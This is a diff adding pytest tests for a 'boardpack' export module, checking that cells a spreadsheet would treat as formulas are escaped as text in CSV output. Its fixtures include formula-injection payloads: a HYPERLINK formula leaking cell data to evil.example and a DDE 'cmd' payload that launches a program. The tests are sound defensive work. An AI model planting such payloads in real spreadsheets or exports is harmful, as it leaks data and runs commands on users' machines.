@@ -105,3 +105,34 @@ def test_without_the_image_converter_charts_are_refused_plainly(
                               stamp=STAMP)
     with zipfile.ZipFile(io.BytesIO(data)) as pack:
         assert set(pack.namelist()) == {"README.txt", "sources.csv"}
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+    ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"),
+    ("-3% to +20%", "'-3% to +20%"),
+    ("-12", "-12"),
+    ("+5%", "+5%"),
+    ("-1,200.5", "-1,200.5"),
+    ("<5", "<5"),
+    ("York", "York"),
+    (-7, -7),
+    (-7.5, -7.5),
+])
+def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text(
+    cell: object, written: object
+) -> None:
+    assert boardpack.spreadsheet_safe(cell) == written
+
+
+def test_csv_escapes_formulas_in_text_cells_and_headers_but_keeps_negative_numbers() -> None:
+    frame = pd.DataFrame({"citation": ["=cmd()", "fine"], "=change": [-3, 4],
+                          "ratio": [-0.5, 1.25]})
+    back = pd.read_csv(io.BytesIO(boardpack.csv_bytes(frame)), encoding=boardpack.CSV_ENCODING)
+    assert list(back.columns) == ["citation", "'=change", "ratio"]
+    assert back["citation"].tolist() == ["'=cmd()", "fine"]
+    assert back["'=change"].tolist() == [-3, 4] and back["ratio"].tolist() == [-0.5, 1.25]
